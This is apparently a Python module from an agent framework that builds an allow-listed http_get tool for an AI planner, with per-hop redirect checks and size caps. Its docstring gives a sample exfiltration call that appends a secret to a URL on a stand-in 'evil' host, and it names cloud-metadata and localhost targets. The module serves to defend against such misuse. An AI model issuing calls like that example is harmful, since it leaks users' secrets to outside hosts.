"""``http_get``: fetch a URL from an explicit allow-list of hosts. Off by default.

A web tool lets a planner exfiltrate data (``http_get("https://evil/?q=" + secret)``) or reach
internal services (cloud metadata at 169.254.169.254, admin ports on localhost). So this tool is
not in :func:`tools.default_tools`, and :func:`make_http_get` has no default for
``allow_hosts``: the caller names every host the planner may reach. Redirects are followed by
hand, and each hop's host is checked against the same list; bodies are capped in size.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

import httpx2

from orchestra._tool import Tool
from orchestra.errors import ToolError, UsageError

__all__ = ["HostAllowList", "make_http_get"]

_MAX_REDIRECTS = 5


class HostAllowList:
    """Which URLs may be fetched (pure).

    Entries are a host (``example.com``, any port), a host and port (``127.0.0.1:8080``), or a
    wildcard for subdomains (``*.example.com``, which does not match ``example.com`` itself).
    Hosts compare case-insensitively; only ``http`` and ``https`` are allowed.

    Raises:
        UsageError: the list is empty or has a blank entry.
    """

    def __init__(self, entries: Iterable[str]) -> None:
        self.entries = tuple(entry.strip().lower() for entry in entries)
        if not self.entries or not all(self.entries):
            raise UsageError("http_get needs a non-empty allow_hosts list of host names (no blank entries)")

    def allows(self, url: httpx2.URL) -> bool:
        """Whether ``url`` may be fetched."""
        if url.scheme not in ("http", "https") or not url.host:
            return False
        host = url.host.lower()
        port = url.port or (443 if url.scheme == "https" else 80)
        for entry in self.entries:
            name, _, entry_port = entry.rpartition(":") if _has_port(entry) else (entry, "", "")
            if entry_port and int(entry_port) != port:
                continue
            if (name.startswith("*.") and host.endswith(name[1:])) or host == name:
                return True
        return False


def _has_port(entry: str) -> bool:
    head, sep, tail = entry.rpartition(":")
    return bool(sep) and tail.isdigit() and not head.endswith(":")  # not an IPv6 literal's colon


def make_http_get(
    allow_hosts: Iterable[str],
    *,
    timeout: float = 10.0,
    max_bytes: int = 1024 * 1024,
    transport: httpx2.AsyncBaseTransport | None = None,
    name: str = "http_get",
) -> Tool:
    """Build an ``http_get`` tool that may only reach ``allow_hosts``.

    Args:
        allow_hosts: host names (optionally ``host:port``, or ``*.domain``) the tool may fetch.
        timeout: seconds for each request.
        max_bytes: bodies longer than this are cut (and marked ``truncated``).
        transport: an ``httpx2`` transport, e.g. ``MockTransport`` or ``ASGITransport`` in tests.
        name: the tool name.

    Raises:
        UsageError: the allow-list is empty.
    """
    allowed = HostAllowList(allow_hosts)

    async def http_get(url: str) -> dict[str, Any]:
        """Fetch a web page or API response with GET; returns status, content type and text.

        Args:
            url: the full http(s) URL.
        """
        try:
            target = httpx2.URL(url)
        except httpx2.InvalidURL as exc:
            raise ToolError(f"invalid URL {url!r}: {exc}", tool=name) from exc
        # One client per call: the tool has no lifetime to close a shared one in, and a planner
        # fetches a handful of pages, not thousands.
        async with httpx2.AsyncClient(transport=transport, timeout=timeout, trust_env=False) as client:
            for _ in range(_MAX_REDIRECTS + 1):
                if not allowed.allows(target):
                    raise ToolError(
                        f"host of {str(target)!r} is not allowed; allowed hosts: {', '.join(allowed.entries)}",
                        tool=name,
                    )
                result, location = await _fetch(client, target, max_bytes, name)
                if location is None:
                    return result
                target = target.join(location)
        raise ToolError(f"more than {_MAX_REDIRECTS} redirects from {url!r}", tool=name)

    return Tool.from_function(http_get, name=name, timeout=timeout * (_MAX_REDIRECTS + 1))


async def _fetch(
    client: httpx2.AsyncClient, url: httpx2.URL, max_bytes: int, name: str
) -> tuple[dict[str, Any], str | None]:
    """One GET; returns the result, or the redirect location to check and follow next."""
    try:
        async with client.stream("GET", url, follow_redirects=False) as response:
            if response.is_redirect and "location" in response.headers:
                return {}, response.headers["location"]
            body = bytearray()
            async for chunk in response.aiter_bytes():
                body += chunk
                if len(body) > max_bytes:
                    break
            encoding = response.encoding or "utf-8"
    except httpx2.TimeoutException as exc:
        raise ToolError(f"GET {url} timed out", tool=name) from exc
    except httpx2.HTTPError as exc:
        raise ToolError(f"GET {url} failed: {exc}", tool=name) from exc
    return {
        "url": str(url),
        "status": response.status_code,
        "content_type": response.headers.get("content-type", ""),
        "text": bytes(body[:max_bytes]).decode(encoding, errors="replace"),
        "truncated": len(body) > max_bytes,
    }, None
